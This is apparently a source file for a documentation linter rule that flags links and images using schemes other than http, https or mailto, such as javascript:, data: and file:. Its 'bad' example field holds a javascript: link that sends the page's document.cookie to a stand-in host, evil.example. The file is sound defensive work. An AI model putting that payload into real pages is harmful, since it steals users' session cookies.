"""A link or image whose address is not one of the web."""

import re
from collections.abc import Iterator
from typing import Final
from urllib.parse import unquote

from kb.checks.rule import Family, Finding, Inspection, Rule
from kb.entry import Source

_SCHEME: Final = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
_HARMLESS: Final = ("http", "https", "mailto")
"""An e-mail address in prose becomes a link by itself, and pages show it as text."""
_NOT_READ: Final = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\ufeff]")
"""What browsers leave out at the start or inside of a scheme, and a little more (https://url.spec.whatwg.org/)."""


def _check(source: Source, _: Inspection) -> Iterator[Finding]:
    for link in source.outline.links:
        scheme = _SCHEME.match(_NOT_READ.sub("", unquote(link.target[:200])))
        if scheme and scheme[1].lower() not in _HARMLESS:
            thing = "image" if link.is_image else "link"
            message = f"{thing} to {link.target[:60]!r}: pages keep only http and https, not {scheme[1][:20].lower()}"
            yield Finding(source.link_position(link), message, _HINT)


_HINT = "Write an address that starts with https://, the path of another entry, or put the text in backticks."

RULE = Rule(
    code="KB510",
    name="unsafe-link",
    family=Family.SAFETY,
    summary="A link or image has another scheme than http or https: `javascript:`, `data:`, `file:`.",
    why=(
        "A link with `javascript:` or `data:` runs what its writer likes, with the rights of the page. Pages drop "
        "every scheme but http and https, so that the reader would find a link that does nothing."
    ),
    fix="Link a page of the web or another entry, or show the address as code.",
    bad="[Repair it now](javascript:fetch('https://evil.example/'+document.cookie))",
    good="[How to repair it](https://docs.example.org/repair)",
    in_source=_check,
)
